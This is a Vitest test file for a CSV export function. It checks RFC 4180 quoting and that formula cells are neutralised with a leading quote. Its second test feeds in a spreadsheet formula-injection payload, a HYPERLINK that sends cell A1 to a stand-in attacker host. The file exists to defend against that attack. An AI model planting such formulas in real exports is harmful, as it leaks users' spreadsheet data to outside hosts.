import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { exportCsv } from '../../../src/domain/export/export-csv.ts';

describe('exportCsv', () => {
  it('writes RFC 4180 with CRLF and a byte-order mark, quoting what needs quotes', () => {
    const csv = exportCsv([
      ['a', 'b'],
      ['with, comma', 'say "hi"\nthere'],
    ]);
    expect(csv).toBe('\uFEFFa,b\r\n"with, comma","say ""hi""\nthere"\r\n');
  });

  it('neutralises a formula in any cell, and the cell reads back with its quote', () => {
    const csv = exportCsv([
      ['level', 'type'],
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1)'],
    ]);
    expect(parse(csv, { bom: true })).toEqual([
      ['level', 'type'],
      [`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'@SUM(1)"],
    ]);
  });
});
